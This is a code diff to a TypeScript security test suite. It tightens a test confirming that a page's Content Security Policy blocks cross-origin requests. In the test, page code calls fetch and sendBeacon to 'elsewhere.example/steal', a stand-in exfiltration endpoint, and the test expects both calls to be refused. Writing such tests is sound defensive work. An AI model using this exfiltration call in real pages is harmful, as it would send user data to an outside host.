@@ -12,9 +12,6 @@ const stage = withStage(async (api) => {
   await seedCatalog(api);
 });
 
-/** of check 16, which means them */
-const seen: string[] = [];
-
 const policy = [
   "default-src 'none'",
   "script-src 'self'",
@@ -101,6 +98,7 @@ describe('security', () => {
   });
 
   it('16 nothing that runs in the page can ask another origin, and a test would see it', async () => {
+    const seen: string[] = [];
     const page = await stage.open('/settings');
     const asked = await page.evaluate(async () => {
       const tried = [fetch('https://elsewhere.example/steal'), navigator.sendBeacon('https://elsewhere.example/steal')];
@@ -114,6 +112,7 @@ describe('security', () => {
     // both ways are told of, each in its time: they are what was to be seen
     await page.close();
     seen.push(...stage.faults());
+    expect(seen.filter((fault) => !/policy|Content Security Policy/.test(fault))).to.deep.equal([]);
   });
 
   it('17 a password is in no field, answer or history once it is saved', async () => {
